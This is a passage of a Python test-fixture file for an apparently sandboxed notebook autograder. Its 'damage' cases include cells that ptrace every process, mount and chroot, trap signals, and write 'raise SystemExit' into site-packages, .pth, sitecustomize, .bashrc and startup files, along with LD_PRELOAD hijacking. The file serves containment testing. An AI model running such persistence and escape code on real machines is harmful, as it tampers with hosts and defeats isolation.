ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
try:
    os.setsid()
except OSError:
    pass
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
while True:
    pass
""", 2, 2, "stopped")
damage("network", "connect, bind, ask a name, send a packet: all fail", """
import socket
out = []
def attempt(what):
    try:
        what()
        out.append("REACHED")
    except OSError:
        out.append("no")
attempt(lambda: socket.create_connection(("127.0.0.1", 22), 0.2))
attempt(lambda: socket.create_connection(("192.0.2.1", 80), 0.2))
attempt(lambda: socket.getaddrinfo("example.org", 80))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 9)))
attempt(lambda: socket.socket(socket.AF_UNIX).connect("/run/systemd/private"))
print(out)
""", FULL, FULL, "graded")
damage("namespaces", "new namespaces and mounts, also over the package, /proc and /dev", """
import ctypes, os
libc = ctypes.CDLL(None)
for flags in (0x10000000, 0x10020000, 0x20000, 0x40000000, 0x20000000):
    libc.unshare(flags)
for kind in (b"tmpfs", b"proc", b"sysfs", b"cgroup2", b"devpts", b"overlay", b"mqueue"):
    for place in (b"/w", b"/proc", b"/sys", b"/dev", b"/tmp", os.path.dirname(np.__file__).encode()):
        libc.mount(kind, place, kind, 0, b"")
libc.mount(None, b"/", None, 32 | 4096, None)
libc.chroot(b"/w")
""", 2, FULL)
damage("ptrace", "every process in sight is traced, read and written", """
import ctypes
libc = ctypes.CDLL(None)
for pid in range(1, 50):
    if pid != __import__("os").getpid():
        libc.ptrace(16, pid, 0, 0)
        libc.process_vm_writev(pid, 0, 0, 0, 0, 0)
""", FULL, FULL)
damage("package_written", "the package, numpy, site-packages, startup files, .pth, sitecustomize", """
import os, sys, site
evil = "raise SystemExit\\n"
places = [os.path.dirname(__import__("lrcourse").__file__) + "/__init__.py", np.__file__, os.__file__]
places += [folder + "/" + name for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages(), sys.prefix]
           for name in ("evil.pth", "sitecustomize.py", "usercustomize.py", "numpy.py")]
home = os.path.expanduser("~")
places += [f"{top}/{name}" for top in (home, "/cache", "/root", "/home", "/etc") for name in (".ipython/profile_default/startup/0.py", ".pythonrc", ".bashrc",
           "ipython/profile_default/startup/0.py", "matplotlib/matplotlibrc", "profile")]
for place in places:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        open(place, "a").write(evil)
        print("WROTE" if not place.startswith(("/w", "numpy")) else "own", place)
    except OSError:
        pass
os.environ.update(PYTHONSTARTUP=os.path.join(home, ".pythonrc"), PYTHONPATH=home, PYTHONHOME=home, LD_PRELOAD=home + "/x.so")
os.putenv("PYTHONINSPECT", "1")
""", 2, FULL)
damage("at_exit", "atexit, a finalizer and threads that never end", "import atexit, threading, time, weakref\natexit.register(lambda: time.sleep(3600))\n"
       "threading.Thread(target=lambda: time.sleep(3600)).start()\natexit.register(lambda: [print('x') for k in range(9)])", FULL, FULL, "graded")
damage("system_exit", "sys.exit, quit, SystemExit and KeyboardInterrupt: a cell failed, no more", "import sys\nsys.exit('bye')", FULL, FULL, "graded")
damage("interrupt", "KeyboardInterrupt in a cell", "raise KeyboardInterrupt", FULL, FULL, "graded")
damage("raises_odd", "an exception whose text fails, and one that is no text", "class Odd(BaseException):\n    def __str__(self):\n        raise SystemExit\n"
       "    __repr__ = __str__\nraise Odd", FULL, FULL, "graded")
damage("streams_replaced", "stdout and stderr replaced by nothing, closed, deleted", "import sys\nsys.stdout.close()\nsys.stdout = sys.stderr = None\n"
       "del sys.stdout", 2, FULL)
damage("builtins_deleted", "builtins deleted and replaced", "import builtins\nfor name in ('callable', 'print', 'isinstance', 'type', 'len', 'str', '__import__'):\n"
       "    try:\n        delattr(builtins, name)\n    except AttributeError:\n        pass", 2, FULL)
damage("modules_emptied", "sys.modules emptied, numpy broken", "import sys\nsys.modules.clear()\nsys.path[:] = []\nnp.linalg = np.max = None", 2, FULL)
damage("shell_broken", "the shell's own parts replaced", "shell = get_ipython()\nshell.run_cell = lambda *a, **k: None\nshell.user_ns.clear()\nshell.events = None\n"
       "shell.compile = None", 2, FULL)
damage("names_deleted", "np deleted later: what was answered before counts", "del np", 2, 2)

# ---- honest oddities: all of these get full marks ---------------------------------------------------------

ANSWERS = [EDGE, CHECKS[0], REGIME, CHECKS[1], FASTEST, CHECKS[2]]
honest("plain", "nothing odd", *SOLVED)
honest("magics", "magics of every kind", "%matplotlib inline\n%config InlineBackend.figure_format = 'retina'\n%load_ext autoreload\n%autoreload 2\n" + IMPORTS,
       "%timeit -n1 -r1 sum(range(9))", "%%time\nx = 1", "%%capture out\nprint('x')", "files = !ls\nfiles[:1]", "%env A=1\n%pwd\n%who", "%precision 4",
       "%%writefile mine.py\nx = 1", "%run mine.py", "%%html\n<b>x</b>", "%%bash\necho hello", "%pip install numpy", "!pip install numpy\nout = !pip list\nx = 1", *ANSWERS)
honest("magics_first", "each line of magic in the very cell that imports", "%matplotlib widget\n%config InlineBackend.rc = {}\n%config Completer.use_jedi = False\n"
       "%pip install -q numpy\n!python -m pip install numpy\n%conda install numpy\n" + IMPORTS, *ANSWERS)
honest("reset", "%reset first, quit() last", "%reset -f\n" + IMPORTS, *ANSWERS, "quit()", failing=1)
honest("extensions", "an extension that is not there, and magics of a notebook's kernel alone", "%load_ext nb_black", "%load_ext tensorboard", "%clear", "%connect_info",
       "%gui qt", "%lsmagic", "import matplotlib\nmatplotlib.use('TkAgg')\nimport matplotlib.pyplot as plt\nplt.switch_backend('QtAgg')", *SOLVED, failing=3)
honest("await", "await, async for, a task, asyncio.run is refused as in a notebook or runs", IMPORTS, "import asyncio\nawait asyncio.sleep(0)\nx = await asyncio.gather(asyncio.sleep(0, 1))",
       "async def f():\n    return 1\nawait f()", "asyncio.get_event_loop()", *ANSWERS)
honest("shown", "display, figures, Out, interact, widgets, an animation, tqdm", IMPORTS, "from IPython.display import HTML, Audio, Image, Markdown, clear_output, display\n"
       "display(HTML('x'), Markdown('x'))\nclear_output(wait=True)\n1 + 1", "assert _ == 2\nOut, In, __, get_ipython().history_manager", "from ipywidgets import FloatSlider, Output, VBox, interact\n"
       "@interact(x=(0, 9))\ndef f(x):\n    print(x)\nout = Output()\nwith out:\n    print(1)\ndisplay(VBox([FloatSlider(), out]))",
       "import matplotlib.pyplot as plt\nfrom matplotlib import animation\nfig, ax = plt.subplots()\nline, = ax.plot([1, 2], [3, 4])\n"
       "film = animation.FuncAnimation(fig, lambda k: line.set_ydata([k, k]), frames=2)\nfilm.to_jshtml()\nplt.savefig('x.png')\nplt.show()",
       "from tqdm.auto import tqdm\nfor k in tqdm(range(3)):\n    pass", "import lrcourse\nfig, ax = plt.subplots()\nline, = ax.plot([0, 1], [0, 1])\n"
       "lrcourse.slide(fig, lambda k: line.set_ydata([0, k]), lr=np.geomspace(0.01, 1, 5), alt='a line')", *ANSWERS)
honest("input", "input() fails in one cell, a missing module in another, an assertion in a third", IMPORTS, "name = input('? ')", "import scipy_is_not_here", "assert False", "1 / 0", *ANSWERS, failing=4)
honest("helper_later", "a helper that is defined in a later cell", IMPORTS, "def edge(hessian):\n    return 2 / top(hessian)", REGIME, FASTEST,
       "def top(hessian):\n    return np.linalg.eigvalsh(hessian)[-1]", *CHECKS)
honest("helper_mended", "a helper is mended in a later cell, the function that uses it stays: the check after it counts", IMPORTS,
       "def top(hessian):\n    return np.trace(hessian)", "def edge(hessian):\n    return 2 / top(hessian)", CHECKS[0], "def top(hessian):\n    return np.linalg.eigvalsh(hessian)[-1]", *ANSWERS[1:])
honest("import_later", "the imports come last", EDGE, REGIME, FASTEST, IMPORTS, *CHECKS)
honest("redefined", "a wrong try first, the right one later", IMPORTS, *WRONG, *CHECKS, *ANSWERS)
honest("name_reused", "the name of a function is a number later on", *SOLVED, "edge = edge(np.eye(2))", "regime = 'creeps'", "del fastest")
honest("merged", "all cells in one", "\n".join(SOLVED))
honest("disorder", "functions first, checks doubled, some before their function", IMPORTS, *CHECKS, FASTEST, REGIME, EDGE, *CHECKS, *CHECKS, failing=3)
honest("checks_deleted", "no check is left", IMPORTS, EDGE, REGIME, FASTEST)
honest("callables", "a class with __call__, a lambda, a decorated function, a bound method, a partial", IMPORTS,
       "class Edge:\n    def __call__(self, hessian):\n        return 2 / np.linalg.eigvalsh(hessian)[-1]\nedge = Edge()",
       "import functools\ndef regime_(names, curvatures, lr):\n    p = lr * max(curvatures)\n    return names[0] if p < 1 else names[2] if abs(p - 2) < 1e-9 else names[1] if p < 2 else names[3]\n"
       "regime = functools.partial(regime_, ['creeps', 'overshoots', 'bounces', 'diverges'])",
       "def loud(f):\n    @functools.wraps(f)\n    def g(*a):\n        print(a)\n        return f(*a)\n    return g\n@loud\n@functools.lru_cache\ndef two():\n    return 2\n"
       "fastest = lambda c: two() / (min(c) + max(c))", *CHECKS)
honest("kinds", "answers as 0-d arrays, numpy numbers and numpy text, parameters renamed", IMPORTS, "def edge(H):\n    return np.array(2 / np.linalg.eigvalsh(H)[-1])",
       REGIME.replace("regime", "_regime") + "\ndef regime(c, eta):\n    return np.str_(_regime(c, eta))", "def fastest(λs):\n    return np.float64(2 / (λs.min() + λs.max()))", *CHECKS)
honest("introspection", "inspect.getsource, pickling a class and a dataclass, doctest, star import, a dataclass", IMPORTS, "from numpy import *\nfrom math import *\nfrom lrcourse import *\nimport numpy as np",
       "import inspect, pickle\ndef of_old(x: int):\n    return x\nfrom dataclasses import dataclass\n@dataclass\nclass P:\n    x: int = 1\nassert pickle.loads(pickle.dumps(P(2))) == P(2)\nassert 'x: int' in inspect.getsource(of_old)",
       EDGE, "print(inspect.getsource(edge))\nassert 'eigvalsh' in inspect.getsource(edge)", REGIME, FASTEST)
honest("processes", "a small pool of processes, threads, a subprocess", IMPORTS, "from multiprocessing import Pool\ndef square(x):\n    return x * x\nwith Pool(2) as pool:\n"
       "    assert pool.map(square, [1, 2]) == [1, 4]", "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(4) as pool:\n    list(pool.map(square, range(9)))",
       "import subprocess, sys\nassert subprocess.run([sys.executable, '-c', 'import numpy; print(1)'], capture_output=True).stdout == b'1\\n'", *ANSWERS)
honest("slow_cell", "a cell that sleeps a second, and huge prints", IMPORTS, "import time\ntime.sleep(1)", "for k in range(2000):\n    print('x' * 10**4)", *ANSWERS)
honest("files", "files written and read, a folder made, a local module, a figure saved", IMPORTS, "import os, pathlib, tempfile\nos.makedirs('data/x', exist_ok=True)\n"
       "np.save('data/x.npy', np.ones(9))\nassert np.load('data/x.npy').sum() == 9\npathlib.Path('local_one.py').write_text('y = 2')\nimport local_one\ntempfile.mkdtemp()", *ANSWERS)
honest("warnings", "warnings, errors set to raise, printing options, a seed, random numbers, another backend", IMPORTS, "import warnings\nwarnings.simplefilter('error')\n"
       "np.seterr(all='raise')\nnp.set_printoptions(precision=1)\nnp.random.seed(1)\nimport matplotlib\nmatplotlib.use('agg')\nimport matplotlib.pyplot as plt\nplt.plot([1])\nplt.show()", *ANSWERS)
honest("debugging", "prints and logging in the answers, global counters", IMPORTS, "import logging\nlogging.basicConfig(level='DEBUG')\ncalls = 0\ndef edge(hessian):\n    global calls\n    calls += 1\n"
       "    print(hessian)\n    logging.debug('x')\n    return 2 / np.linalg.eigvalsh(hessian)[-1]", *ANSWERS[1:])
honest("names_odd", "unicode names, emoji, a lone surrogate, very long lines", IMPORTS, "η, λ1 = 0.1, 2\nnaïve = '🎈'\n表 = 1", "s = '\\ud800'\nprint(s)", f"x = '{'y' * 10**5}'", "# " + "é" * 999, *ANSWERS)
_OLD = {"worksheets": [{"cells": [{"cell_type": "code", "input": text, "language": "python", "outputs": []} for text in SOLVED]}], "nbformat": 3, "metadata": {}}
for _name, _words, _raw in (
        ("format_3", "a notebook of format 3", json.dumps(_OLD).encode()),
        ("mark_utf8", "a byte order mark", b"\xef\xbb\xbf" + notebook(SOLVED)),
        ("utf16", "UTF-16, with a mark and without", notebook(SOLVED).decode().encode("utf-16")),
        ("utf16_bare", "UTF-16 without a mark", notebook(SOLVED).decode().encode("utf-16-le")),
        ("latin1", "Latin-1, with letters that are no UTF-8", json.dumps(json.loads(notebook([*SOLVED, "# größer"])), ensure_ascii=False).encode("latin-1")),
        ("kernelspec", "another kernel, or none", notebook(SOLVED, metadata={"kernelspec": {"name": "julia-1.9", "language": "julia"}})),
        ("same_ids", "one id for all cells, unknown keys", json.dumps({"cells": [{"id": "a", "x": 1, "cell_type": "code", "source": t.splitlines(True)} for t in SOLVED]}).encode()),
        ("outputs", "forged outputs beside the answers: nobody reads them", json.dumps({"cells": [
            {"cell_type": "code", "source": t, "outputs": [{"output_type": "execute_result", "data": {"text/plain": "99"}}], "metadata": {"nbgrader": {"points": 99}}}
            for t in SOLVED]}).encode())):
    _add("honest", _name, _words, _raw, FULL, FULL, "graded", apart=False)

# ---- broken files: a row with a reason -------------------------------------------------------------------

broken("empty", "no bytes", b"")
broken("blank", "only spaces", b" \n\t " * 99)
broken("truncated", "half a notebook", notebook(SOLVED)[:700])
broken("no_json", "a page of a web server", b"<!DOCTYPE html><title>404</title>")
broken("python", "a script", "\n".join(SOLVED).encode())
broken("deep", "lists in lists in lists", b"[" * 10**6)
broken("deep_cell", "a source that is lists in lists", b'{"cells": [{"cell_type": "code", "source": ' + b"[" * 10**5 + b"]" * 10**5 + b"}]}")
broken("large", "40 MB", b" " * (40 << 20))
broken("binary", "every byte there is", bytes(range(256)) * 999)
broken("zip", "the beginning of a zip", b"PK\x03\x04" + bytes(10**5))
broken("zeros", "nothing but zeros", bytes(10**5))
broken("number", "JSON that is a number", b"42")
broken("long_number", "JSON that is a number of a million digits", b"9" * 10**6)
broken("list", "JSON that is a list", b"[1, 2]")
broken("no_cells", "a notebook without cells", b'{"nbformat": 4}')
broken("cells_wrong", "cells of every wrong type", json.dumps({"cells": [None, 1, "x", [], {}, {"cell_type": 3}, {"cell_type": "code"}, {"cell_type": "code", "source": 3},
       {"cell_type": "code", "source": [1, None, {}]}, {"cell_type": "code", "source": {"a": 1}, "metadata": 3}]}).encode())
broken("cells_no_list", "cells that are an object", b'{"cells": {"0": {}}}')
broken("many_cells", "6000 cells", notebook(["x = 1"] * 6000))
broken("surrogates", "half a character in the middle of an answer", b'{"cells": [{"cell_type": "code", "source": "\\ud800 = 1"}]}')
broken("nan", "numbers that JSON does not know", b'{"cells": [], "x": NaN, "y": Infinity}')
broken("foreign", "a notebook of another course", notebook(["print('hello')"]))
